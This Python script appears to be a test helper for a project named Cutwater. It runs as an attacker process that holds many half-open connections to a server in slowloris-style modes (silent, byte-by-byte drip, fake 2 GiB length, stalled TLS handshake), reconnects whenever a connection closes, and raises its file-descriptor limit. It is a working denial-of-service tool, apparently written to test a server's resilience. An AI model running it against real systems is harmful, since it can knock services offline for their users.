"""An attacker as a process: ``python attack_connections.py HOST:PORT COUNT MODE`` keeps COUNT connections up that never
finish a handshake, makes another one whenever one is closed, and ends when standard input does. Imports nothing of
Cutwater. Prints a line when all are up for the first time.

MODE is ``silent``, ``drip`` (a byte of a greeting per second), ``large`` (a length of 2 GiB, then nothing), ``tls``
(the beginning of a TLS handshake, then nothing), or ``mixed`` (all of them in turn).
"""

from __future__ import annotations

import asyncio
import resource
import struct
import sys

DRIP = struct.pack("<IIQBB", 0, 60, 0, 1, 0) + b"\x98\xa8cutwater" + b"\x01" * 200
LARGE = struct.pack("<IIQBB", 2**31, 2**31 - 1, 0, 1, 0)
TLS = bytes.fromhex("16030102000100")
MODES = ("silent", "drip", "large", "tls")
AGAIN_SECONDS = 1.0
"""Connections that stay are the attack here; how many new ones a second a server can accept depends on its machine."""


async def attack(host: str, port: int, mode: str, up: asyncio.Semaphore) -> None:
    is_first = True
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(AGAIN_SECONDS)
            continue
        if is_first:
            is_first = False
            up.release()
        dripping = None
        try:
            if mode == "drip":
                dripping = asyncio.ensure_future(drip(writer))
            elif mode != "silent":
                writer.write(LARGE if mode == "large" else TLS)
            while await reader.read(4_096):
                pass
        except OSError:
            pass
        finally:
            if dripping is not None:
                dripping.cancel()
            writer.close()
        await asyncio.sleep(AGAIN_SECONDS)


async def drip(writer: asyncio.StreamWriter) -> None:
    for byte in DRIP:
        writer.write(bytes([byte]))
        await asyncio.sleep(1)


async def main() -> None:
    (host, _, port), count, mode = sys.argv[1].rpartition(":"), int(sys.argv[2]), sys.argv[3]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    up = asyncio.Semaphore(0)
    modes = MODES if mode == "mixed" else (mode,)
    tasks = [asyncio.ensure_future(attack(host, int(port), modes[n % len(modes)], up)) for n in range(count)]
    for _ in range(count):
        await up.acquire()
    print("up", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in tasks:
        task.cancel()


if __name__ == "__main__":
    asyncio.run(main())
